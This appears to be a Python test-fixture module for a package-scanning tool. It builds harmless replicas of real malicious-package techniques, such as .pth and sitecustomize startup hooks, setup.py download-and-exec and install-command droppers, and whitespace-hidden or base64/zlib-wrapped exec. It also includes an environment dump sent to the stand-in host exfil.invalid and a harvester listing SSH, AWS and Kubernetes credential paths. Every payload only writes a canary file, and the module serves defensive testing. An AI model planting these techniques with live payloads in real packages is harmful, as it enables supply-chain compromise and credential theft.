"""Harmless replicas of real malicious-package techniques, built as files in a temp directory.

Each replica copies the *shape* of a published attack (LiteLLM 1.82.7/1.82.8, ctx, W4SP, aiocpa,
fshec2, setup.py droppers) closely enough for the rules to have to recognise the technique, but
its payload only ever writes a marker file into the test's own canary directory, and nothing in it
touches the network ("downloads" read a local `file://` URL, "exfiltration" writes the canary).
The scanner never runs any of it; a test checks that no canary exists after every scan.
"""

from __future__ import annotations

import base64
import hashlib
import importlib.util
import marshal
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from chainproof.deps.files import TargetKind
from chainproof.deps.model import Distribution, RecordEntry
from chainproof.deps.targets.directory import DirectoryTree


@dataclass(frozen=True)
class Replica:
    name: str
    root: Path
    kind: TargetKind
    rule: str
    """The rule that must catch it at high or above."""
    path: str
    """The file (relative to root) the finding must point at."""
    dists: tuple[Distribution, ...]
    owners: dict[str, Distribution]

    def tree(self) -> DirectoryTree:
        return DirectoryTree(self.root, self.kind)


def canary_code(canary: Path, tag: str) -> str:
    """The only payload any replica carries: create `canary/tag`."""
    target = str(canary / tag)
    return f"import os\nos.makedirs({str(canary)!r}, exist_ok=True)\nopen({target!r}, 'w').write('fired')\n"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _record_line(root: Path, rel: str) -> str:
    digest = (
        base64.urlsafe_b64encode(hashlib.sha256((root / rel).read_bytes()).digest()).rstrip(b"=").decode()
    )
    return f"{rel},sha256={digest},{(root / rel).stat().st_size}"


def add_dist(root: Path, name: str, version: str, files: dict[str, str | bytes]) -> Distribution:
    """Write files plus a `*.dist-info` with METADATA and RECORD, as an installer would."""
    for rel, content in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            (root / rel).write_bytes(content)
        else:
            (root / rel).write_text(content)
    info = f"{name.replace('-', '_')}-{version}.dist-info"
    (root / info).mkdir(parents=True)
    (root / info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
    lines = [_record_line(root, rel) for rel in [*files, f"{info}/METADATA"]] + [f"{info}/RECORD,,"]
    (root / info / "RECORD").write_text("\n".join(lines) + "\n")
    record = tuple(RecordEntry(rel, "sha256", None, None) for rel in files)
    return Distribution(name, version, info, str(root), "pip", None, record)


def _replica(
    name: str, root: Path, kind: TargetKind, rule: str, path: str, dists: list[Distribution]
) -> Replica:
    owners = {e.path: d for d in dists for e in (d.record or ())}
    return Replica(name, root, kind, rule, path, tuple(dists), owners)


def litellm_pth(tmp: Path, canary: Path) -> Replica:
    """LiteLLM 1.82.8: `litellm_init.pth` spawns a decoded payload at every interpreter start."""
    pth = (
        "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
        f"\"import base64; exec(base64.b64decode('{b64(canary_code(canary, 'litellm-pth'))}'))\"], "
        "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
    )
    root = tmp / "litellm-pth"
    d = add_dist(
        root,
        "litellm",
        "1.82.8",
        {"litellm/__init__.py": "__version__ = '1.82.8'\n", "litellm_init.pth": pth},
    )
    return _replica("litellm-pth", root, TargetKind.ENVIRONMENT, "hook-pth-exec", "litellm_init.pth", [d])


def benign_named_pth(tmp: Path, canary: Path) -> Replica:
    """A payload under setuptools' hook name: the name must not buy trust."""
    pth = f"import base64; exec(base64.b64decode('{b64(canary_code(canary, 'benign-name'))}'))\n"
    root = tmp / "benign-name"
    d = add_dist(
        root, "setuptools", "99.0", {"distutils-precedence.pth": pth, "_distutils_hack/__init__.py": ""}
    )
    return _replica(
        "benign-named-pth", root, TargetKind.ENVIRONMENT, "hook-pth-exec", "distutils-precedence.pth", [d]
    )


def import_time_submodule(tmp: Path, canary: Path) -> Replica:
    """LiteLLM 1.82.7: the payload sits at module level in `litellm/proxy/proxy_server.py`."""
    code = (
        '"""Proxy server."""\nimport base64\nimport subprocess\nimport sys\n\n'
        "def start_proxy():\n    return 'running'\n\n"
        f"_cfg = '{b64(canary_code(canary, 'proxy-server'))}'\n"
        "subprocess.Popen([sys.executable, '-c', base64.b64decode(_cfg).decode()],\n"
        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
    )
    root = tmp / "proxy-server"
    files: dict[str, str | bytes] = {
        "litellm/__init__.py": "",
        "litellm/proxy/__init__.py": "",
        "litellm/proxy/proxy_server.py": code,
    }
    d = add_dist(root, "litellm", "1.82.7", files)
    return _replica(
        "import-time-submodule",
        root,
        TargetKind.ENVIRONMENT,
        "code-exec-decoded",
        "litellm/proxy/proxy_server.py",
        [d],
    )


def setup_download_exec(tmp: Path, canary: Path) -> Replica:
    """setup.py fetches a second stage and executes it while pip builds the sdist."""
    stage2 = tmp / "stage2.py"
    tmp.mkdir(parents=True, exist_ok=True)
    stage2.write_text(canary_code(canary, "setup-download"))
    root = tmp / "dl-sdist"
    pkg = root / "helpful-1.0"
    pkg.mkdir(parents=True)
    (pkg / "setup.py").write_text(
        "import urllib.request\nfrom setuptools import setup\n\n"
        f"stage = urllib.request.urlopen({stage2.as_uri()!r}).read()\n"
        "exec(stage)\n\nsetup(name='helpful', version='1.0')\n"
    )
    (pkg / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: helpful\nVersion: 1.0\n")
    return _replica(
        "setup-download-exec", root, TargetKind.SDIST, "code-download-exec", "helpful-1.0/setup.py", []
    )


def env_exfil(tmp: Path, canary: Path) -> Replica:
    """ctx 0.2.2/0.2.6: every environment variable, base64-encoded, appended to a URL."""
    code = (
        "import base64\nfrom os import environ\n\n\n"
        "def _deliver(url):\n"
        f"    open({str(canary / 'ctx-exfil')!r}, 'w').write(url)\n\n\n"
        "def sendRequest():\n"
        "    string = ''\n"
        "    for _, value in environ.items():\n"
        "        string += value + ' '\n"
        "    message = base64.b64encode(string.encode('ascii', 'replace')).decode()\n"
        "    _deliver('https://exfil.invalid/hacked/' + message)\n\n\n"
        "class Ctx(dict):\n    def __init__(self):\n        sendRequest()\n        super().__init__()\n"
    )
    root = tmp / "ctx"
    d = add_dist(root, "ctx", "0.2.6", {"ctx/__init__.py": code})
    return _replica("env-exfil", root, TargetKind.ENVIRONMENT, "code-env-dump", "ctx/__init__.py", [d])


def credential_harvest(tmp: Path, canary: Path) -> Replica:
    """A stealer that collects SSH, cloud and Kubernetes credentials (here from a fake home)."""
    code = (
        "import os\n\n"
        f"HOME = {str(canary / 'fakehome')!r}\n"
        "TARGETS = ['.ssh/id_rsa', '.aws/credentials', '.kube/config', '.git-credentials',\n"
        "           os.path.join('.config', 'gcloud', 'credentials.db')]\n\n\n"
        "def collect():\n"
        "    found = {}\n"
        "    for rel in TARGETS:\n"
        "        path = os.path.join(HOME, rel)\n"
        "        if os.path.exists(path):\n"
        "            found[rel] = open(path).read()\n"
        f"    open({str(canary / 'harvest')!r}, 'w').write(repr(found))\n\n\n"
        "collect()\n"
    )
    root = tmp / "harvest"
    d = add_dist(root, "cloud-helpers", "0.1", {"cloud_helpers/__init__.py": code})
    return _replica(
        "credential-harvest",
        root,
        TargetKind.ENVIRONMENT,
        "code-credential-read",
        "cloud_helpers/__init__.py",
        [d],
    )


def whitespace_hidden(tmp: Path, canary: Path) -> Replica:
    """W4SP typosquats: a payload pushed hundreds of columns to the right of an innocent line."""
    hidden = (
        f"__import__('builtins').exec(__import__('base64').b64decode('{b64(canary_code(canary, 'w4sp'))}'))"
    )
    code = f"import os\n\nVERSION = '1.0'{' ' * 300};{hidden}\n\n\ndef greet():\n    return 'hi'\n"
    root = tmp / "w4sp"
    d = add_dist(root, "colorsama", "1.0", {"colorsama/__init__.py": code})
    return _replica(
        "whitespace-hidden",
        root,
        TargetKind.ENVIRONMENT,
        "code-hidden-whitespace",
        "colorsama/__init__.py",
        [d],
    )


def nested_layers(tmp: Path, canary: Path) -> Replica:
    """aiocpa: a payload wrapped in base64 around zlib, executed from an ordinary-looking function."""
    blob = base64.b64encode(zlib.compress(canary_code(canary, "aiocpa").encode())).decode()
    code = (
        "import base64\nimport zlib\n\n\n"
        "class CryptoPay:\n"
        "    def __init__(self, token):\n"
        "        self.token = token\n"
        f"        exec(zlib.decompress(base64.b64decode({blob!r})))\n"
    )
    root = tmp / "aiocpa"
    d = add_dist(root, "aiocpa", "0.1.13", {"aiocpa/__init__.py": "", "aiocpa/sync.py": code})
    return _replica(
        "nested-base64-zlib", root, TargetKind.ENVIRONMENT, "code-exec-decoded", "aiocpa/sync.py", [d]
    )


def pyc_only(tmp: Path, canary: Path) -> Replica:
    """fshec2: the payload ships only as bytecode, loaded by path from an innocent `__init__.py`.

    The bytecode is produced with `compile` + `marshal` (compiling is not executing).
    """
    code_object = compile(canary_code(canary, "fshec2"), "main.py", "exec")
    pyc = importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(code_object)
    loader = (
        "import importlib.machinery, os\n\n"
        "def load():\n"
        "    path = os.path.join(os.path.dirname(__file__), 'main.pyc')\n"
        "    return importlib.machinery.SourcelessFileLoader('main', path).load_module()\n"
    )
    root = tmp / "fshec2"
    d = add_dist(root, "fshec2", "0.1", {"fshec2/__init__.py": loader, "fshec2/main.pyc": pyc})
    return _replica(
        "pyc-only", root, TargetKind.ENVIRONMENT, "binary-pyc-without-source", "fshec2/main.pyc", [d]
    )


def cmdclass_override(tmp: Path, canary: Path) -> Replica:
    """setup.py replaces `install` with a command that runs a payload during `pip install`."""
    root = tmp / "cmdclass-sdist"
    pkg = root / "fastjsonx-2.0"
    pkg.mkdir(parents=True)
    (pkg / "setup.py").write_text(
        "import subprocess\nimport sys\nfrom setuptools import setup\n"
        "from setuptools.command.install import install\n\n\n"
        "class PostInstall(install):\n"
        "    def run(self):\n"
        "        install.run(self)\n"
        f"        subprocess.call([sys.executable, '-c', {canary_code(canary, 'cmdclass')!r}])\n\n\n"
        "setup(name='fastjsonx', version='2.0', cmdclass={'install': PostInstall})\n"
    )
    return _replica(
        "cmdclass-override", root, TargetKind.SDIST, "install-cmdclass", "fastjsonx-2.0/setup.py", []
    )


def sitecustomize_hook(tmp: Path, canary: Path) -> Replica:
    """A `sitecustomize.py` dropped into site-packages: imported at every interpreter start."""
    code = f"import base64\nexec(base64.b64decode({b64(canary_code(canary, 'sitecustomize'))!r}))\n"
    root = tmp / "sitecustomize"
    d = add_dist(root, "sitetools", "1.0", {"sitecustomize.py": code})
    return _replica(
        "sitecustomize", root, TargetKind.ENVIRONMENT, "hook-sitecustomize", "sitecustomize.py", [d]
    )


def start_file_hook(tmp: Path, canary: Path) -> Replica:
    """A PEP 829 `.start` file naming an entry point outside the package that ships it."""
    del canary  # the entry point itself is the technique; nothing here can fire
    root = tmp / "start-file"
    d = add_dist(root, "tinyhelper", "1.0", {"tinyhelper/__init__.py": "", "tinyhelper.start": "os:abort\n"})
    return _replica("start-file", root, TargetKind.ENVIRONMENT, "hook-start-file", "tinyhelper.start", [d])


BUILDERS: tuple[Callable[[Path, Path], Replica], ...] = (
    litellm_pth,
    benign_named_pth,
    import_time_submodule,
    setup_download_exec,
    env_exfil,
    credential_harvest,
    whitespace_hidden,
    nested_layers,
    pyc_only,
    cmdclass_override,
    sitecustomize_hook,
    start_file_hook,
)


def tree_of(
    root: Path, files: dict[str, str | bytes], kind: TargetKind = TargetKind.ENVIRONMENT
) -> DirectoryTree:
    """A bare tree of files (no metadata): what a rule sees of one site-packages or archive."""
    for rel, content in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            (root / rel).write_bytes(content)
        else:
            (root / rel).write_text(content)
    root.mkdir(parents=True, exist_ok=True)
    return DirectoryTree(root, kind)
